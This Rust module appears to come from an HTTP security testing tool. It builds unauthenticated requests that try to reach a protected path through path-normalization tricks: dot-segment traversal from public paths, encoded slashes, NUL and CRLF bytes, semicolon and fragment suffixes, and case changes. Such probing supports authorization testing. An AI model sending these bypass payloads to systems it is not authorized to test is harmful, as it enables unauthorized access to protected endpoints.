//! Requests without a token whose path one party may take for a public one, and the other for the protected one.

use crate::probe::attempt::{Case, Class, Proof, Weight, raw};
use crate::probe::target::Target;

pub(super) fn cases(target: &Target) -> Vec<Case> {
    let path = target.path.split('?').next().unwrap_or_default();
    let bare = path.trim_start_matches('/');
    let mut targets = vec![
        ("two slashes before it".to_owned(), format!("/{path}")),
        ("a period before it".to_owned(), format!("/.{path}")),
        ("a name and two periods before it".to_owned(), format!("/x/..{path}")),
        ("a semicolon behind it".to_owned(), format!("{path};x")),
        ("a semicolon and a public suffix behind it".to_owned(), format!("{path};/healthz")),
        ("a suffix of a static file".to_owned(), format!("{path};x.css")),
        ("an encoded first letter".to_owned(), encoded_first(bare)),
        ("an absolute target".to_owned(), format!("http://{}{path}", target.authority)),
        ("an encoded slash before it".to_owned(), format!("/%2f{bare}")),
        ("a backslash before it".to_owned(), format!("/\\{bare}")),
        ("a slash behind it".to_owned(), format!("{path}/")),
        ("a question mark behind it".to_owned(), format!("{path}?")),
        ("a public path in the query".to_owned(), format!("{path}?/healthz")),
        ("a public path in the fragment".to_owned(), format!("{path}#/healthz")),
        ("another case of letters".to_owned(), path.to_ascii_uppercase()),
        ("an encoded NUL behind it".to_owned(), format!("{path}%00")),
        ("an encoded line's end behind it".to_owned(), format!("{path}%0d%0a")),
    ];
    for public in &target.public_paths {
        let public = public.trim_end_matches('/');
        for up in [
            "/..",
            "/%2e%2e",
            "/.%2e",
            "/..;",
            "/..%2f",
            "/%2e%2e%2f",
            "/..%5c",
            "\\..",
            "/..%00",
            ";/..",
            "/x/../..",
            "/./..",
            "//..",
            "/..%252f",
        ] {
            targets.push((format!("{public}{up} before it"), format!("{public}{up}{path}")));
        }
        for joint in ["%00", "#", ";", "%23", "%3f", "%0a"] {
            targets.push((format!("{public}{joint} before it"), format!("{public}{joint}/..{path}")));
        }
    }
    let case = |(what, wanted): (String, String)| {
        let template =
            format!("{} {wanted} HTTP/1.1~{{H}}Connection: close~{{L}}~{{B}}", target.method.replace('~', "%7e"));
        Case {
            class: Class::Path,
            source: "RFC 3986 6.2",
            what: format!("no token, {what}"),
            weight: Weight::Bypass,
            request: raw(target, &template),
            proof: Proof::TakenElsewhere,
        }
    };
    targets.into_iter().map(case).collect()
}

fn encoded_first(bare: &str) -> String {
    match bare.split_at_checked(1) {
        Some((first, rest)) => format!("/%{:02x}{rest}", first.bytes().next().unwrap_or_default()),
        None => "/%2e".to_owned(),
    }
}
